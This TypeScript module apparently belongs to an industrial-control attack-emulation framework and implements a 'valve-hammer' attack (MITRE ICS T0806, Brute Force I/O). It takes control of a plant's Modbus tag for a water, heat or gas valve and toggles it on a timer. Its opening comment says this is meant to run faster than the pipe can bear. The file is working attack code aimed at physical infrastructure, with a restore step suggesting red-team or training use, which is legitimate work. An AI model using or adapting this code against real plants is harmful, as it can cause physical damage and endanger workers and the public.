// T0806 Brute Force I/O: a foreign Modbus client switches a valve on and off, as fast as its drive can follow and faster than its pipe can bear.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { takeHold } from './hold.ts'
import { TargetTag } from './target.ts'
import { plantsOf, type Usual, usualIn } from './usual.ts'

const USUAL: Usual<string> = { water: 'zone2.open', heat: 'valve.auto', gas: 'line1.open' }

const Parameters = z.strictObject({
  tag: TargetTag('command').optional().describe('The command that is switched; by default that of a valve of the plant.'),
  everySeconds: z.number().min(1).max(600).default(25).describe('After how many seconds it is switched again.')
})

export const valveHammer = {
  name: 'valve-hammer',
  title: { zh: '阀门频繁启闭', en: 'Hammered valve' },
  technique: 'T0806',
  plants: plantsOf(USUAL),
  parameters: Parameters,
  async aim(foothold, { tag: named, everySeconds }) {
    const tag = named ?? usualIn(USUAL, foothold.map.plant)
    const hold = await takeHold(foothold)
    hold.keep(tag)
    let on = hold.before(tag) !== 0
    return {
      ...{ tags: [tag], hosts: [hold.host], insistSeconds: everySeconds },
      async strike() {
        on = !on
        await hold.write({ [tag]: on ? 1 : 0 })
      },
      undo: () => hold.putBack()
    }
  }
} satisfies Attack<typeof Parameters>
